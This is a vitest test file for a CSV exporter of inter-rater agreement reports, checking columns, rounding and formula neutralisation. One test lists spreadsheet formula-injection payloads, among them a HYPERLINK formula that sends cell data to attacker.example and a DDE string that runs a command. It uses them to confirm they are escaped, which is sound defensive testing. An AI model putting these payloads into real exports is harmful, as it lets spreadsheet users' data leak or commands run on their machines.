import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { reportCsv, type ReportCsvRow } from './report-csv.js';

const HEADER =
  'criterion,title,decision,scale,carried_over,units,ratings,percent_agreement,agreement_interval_low,agreement_interval_high,interval_method,more_submissions,adjacent_agreement,' +
  'cohen_kappa,fleiss_kappa,krippendorff_alpha,gwet_ac1,verdict,evidence,early_signal,previous_agreement,' +
  'rubric_unclear,evidence_ambiguous,assessor_error,other_reason,' +
  'percent_agreement_low,percent_agreement_high,adjacent_agreement_low,adjacent_agreement_high,cohen_kappa_low,cohen_kappa_high,' +
  'fleiss_kappa_low,fleiss_kappa_high,krippendorff_alpha_low,krippendorff_alpha_high,gwet_ac1_low,gwet_ac1_high,notes';

function row(overrides: Partial<ReportCsvRow> = {}): ReportCsvRow {
  return {
    criterion: 'tool',
    title: 'Quality of the scoring tool',
    scale: 'ordinal',
    carriedOver: false,
    units: 50,
    ratings: 100,
    metrics: {
      percent_agreement: { value: 0.64, interval: { lo: 0.5014099, hi: 0.7586131 } },
      adjacent_agreement: { value: 1, interval: { lo: 0.9286524, hi: 1 } },
      cohen_kappa: { value: 0.5148251234 },
      fleiss_kappa: { value: 0.512063 },
      krippendorff_alpha_ordinal: { value: 0.80695 },
      krippendorff_alpha_nominal: { value: 0.5 },
      gwet_ac1: { value: 0.522589 },
    },
    evidence_interval: [0.5014099, 0.7586131],
    evidence_method: 'clopper_pearson',
    decision: 'needs_revision',
    more_submissions: null,
    verdict: 'needs_revision',
    evidence: 'conclusive',
    early_signal: null,
    comparison: null,
    adjudication_reasons: { rubric_unclear: 13, evidence_ambiguous: 2, assessor_error: 3, other: 0 },
    notes: ['Exact agreement is 64%.', 'Sharpen "2" and "3".'],
    ...overrides,
  };
}

describe('reportCsv(rows)', () => {
  it('writes a header and one line per row, estimates rounded to six decimals, notes quoted', () => {
    expect(reportCsv([row()])).toBe(
      `${HEADER}\r\ntool,Quality of the scoring tool,needs_revision,ordinal,false,50,100,0.64,0.50141,0.758613,clopper_pearson,,1,0.514825,0.512063,0.80695,0.522589,` +
        'needs_revision,conclusive,,,13,2,3,0,0.50141,0.758613,0.928652,1,,,,,,,,,"Exact agreement is 64%. Sharpen ""2"" and ""3""."',
    );
  });

  it('takes the nominal alpha on nominal rows and leaves absent or undefined measures empty', () => {
    const nominal = row({
      scale: 'nominal',
      metrics: { percent_agreement: { value: 0.92 }, cohen_kappa: { value: null }, krippendorff_alpha_nominal: { value: -0.03125 } },
      evidence_interval: null,
      evidence_method: 'none',
      notes: [],
    });
    const [, line] = reportCsv([nominal]).split('\r\n');
    expect(line).toBe('tool,Quality of the scoring tool,needs_revision,nominal,false,50,100,0.92,,,,,,,,-0.03125,,needs_revision,conclusive,,,13,2,3,0,,,,,,,,,,,,,');
  });

  it('fills the early signal and the previous agreement when there are some', () => {
    const compared = row({ carriedOver: true, decision: 'undetermined', early_signal: 'undetermined', comparison: { previousAgreement: 0.8600000001 } });
    const [, line] = reportCsv([compared]).split('\r\n');
    expect(line.split(',').slice(2, 3)).toEqual(['undetermined']);
    expect(line.split(',').slice(4, 5)).toEqual(['true']);
    expect(line.split(',').slice(19, 21)).toEqual(['undetermined', '0.86']);
    expect(reportCsv([row({ comparison: { previousAgreement: null } })]).split('\r\n')[1].split(',')[20]).toBe('');
  });

  it('gives the further submissions an inconclusive row needs', () => {
    const line = reportCsv([row({ decision: 'meets_rule_not_demonstrated', more_submissions: { more: 272 } })]).split('\r\n')[1].split(',');
    expect(line[2]).toBe('meets_rule_not_demonstrated');
    expect(line[10]).toBe('clopper_pearson');
    expect(line[11]).toBe('272');
  });

  it('neutralises text a spreadsheet would run as a formula, and leaves numbers, negative ones too, as numbers', () => {
    const attacks = ['=HYPERLINK("http://attacker.example/?"&A1,"Open")', '+SUM(1,2)', "-2+3+cmd|' /C calc'!A0", '@SUM(1,1)', '\tTAB', '\rCR'];
    const csv = reportCsv(
      attacks.map((title, index) => row({ criterion: `row${index}`, title, notes: [title], metrics: { ...row().metrics, cohen_kappa: { value: -0.25 } } })),
    );
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true }).data;
    expect(parsed).toHaveLength(attacks.length);
    parsed.forEach((line, index) => {
      expect(line.title).toBe(`'${attacks[index]}`);
      expect(line.notes).toBe(`'${attacks[index]}`);
      expect(line.cohen_kappa).toBe('-0.25');
    });
    // a safe title is left as it is
    expect(Papa.parse<Record<string, string>>(reportCsv([row()]), { header: true }).data[0].title).toBe('Quality of the scoring tool');
  });

  it('gives an empty text for no rows', () => {
    expect(reportCsv([])).toBe('');
  });
});
